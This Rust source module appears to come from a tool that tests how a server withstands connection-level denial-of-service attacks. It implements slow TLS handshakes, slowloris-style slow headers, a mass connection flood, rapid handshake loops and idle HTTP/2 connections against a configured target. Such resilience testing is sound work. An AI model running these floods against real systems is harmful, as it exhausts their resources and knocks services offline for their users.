//! Attacks by connections without a user.

use std::collections::VecDeque;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::connection::Attacker;
use crate::target::{DURATION, Target};

/// Empty connections of a flood, and those that are held at the same time.
const FLOOD: usize = 167_000;
const HELD: usize = 500;
/// The begin of a TLS record with a ClientHello.
const CLIENT_HELLO: [u8; 11] = [22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3];

/// 300 connections that send a ClientHello, one byte a second.
pub(crate) async fn slow_handshakes(target: Target) {
    let mut open = Vec::new();
    for _ in 0..300 {
        open.extend(TcpStream::connect(target.address).await);
    }
    for byte in CLIENT_HELLO {
        for stream in &mut open {
            let _ = stream.write_all(&[byte]).await;
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// 200 connections that send the headers of a request, one line a second, and are replaced when they are closed.
pub(crate) async fn slow_headers(target: Target) {
    let mut open = JoinSet::new();
    let end = Instant::now() + DURATION;
    for _ in 0..200 {
        let target = target.clone();
        open.spawn(async move {
            while Instant::now() < end {
                let Ok(mut stream) = target.connect_tls().await else {
                    continue;
                };
                let mut line = "GET /version HTTP/1.1\r\n";
                while Instant::now() < end && stream.write_all(line.as_bytes()).await.is_ok() {
                    let _ = stream.flush().await;
                    line = "X-Header: x\r\n";
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            }
        });
    }
    open.join_all().await;
}

/// Opens connections as fast as possible and sends nothing, by two tasks.
pub(crate) async fn flood(target: Target) {
    let (opened, failed) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let begin = Instant::now();
    let mut tasks = JoinSet::new();
    for _ in 0..2 {
        let (target, opened, failed) = (target.clone(), opened.clone(), failed.clone());
        tasks.spawn(async move {
            let mut held = VecDeque::new();
            while opened.fetch_add(1, Ordering::Relaxed) < FLOOD {
                match TcpStream::connect(target.address).await {
                    Ok(stream) => held.push_back(stream),
                    Err(_) => drop(failed.fetch_add(1, Ordering::Relaxed)),
                }
                if held.len() > HELD {
                    held.pop_front();
                }
            }
        });
    }
    tasks.join_all().await;
    let failed = failed.load(Ordering::Relaxed);
    let seconds = begin.elapsed().as_secs_f64();
    println!(
        "{} connections in {seconds:.1} s, {failed} failed",
        FLOOD - failed
    );
}

/// Handshakes as fast as possible, by three tasks.
pub(crate) async fn handshakes(target: Target) {
    let end = Instant::now() + DURATION;
    let mut tasks = JoinSet::new();
    for _ in 0..3 {
        let target = target.clone();
        tasks.spawn(async move {
            let mut count = 0;
            while Instant::now() < end {
                count += usize::from(target.connect_tls().await.is_ok());
            }
            count
        });
    }
    let count: usize = tasks.join_all().await.into_iter().sum();
    println!("{count} handshakes");
}

/// 1,100 idle HTTP/2 connections.
pub(crate) async fn idle(target: Target) {
    let mut held = Vec::new();
    for _ in 0..1100 {
        held.push(Attacker::connect(target.address).await);
    }
    tokio::time::sleep(DURATION).await;
}
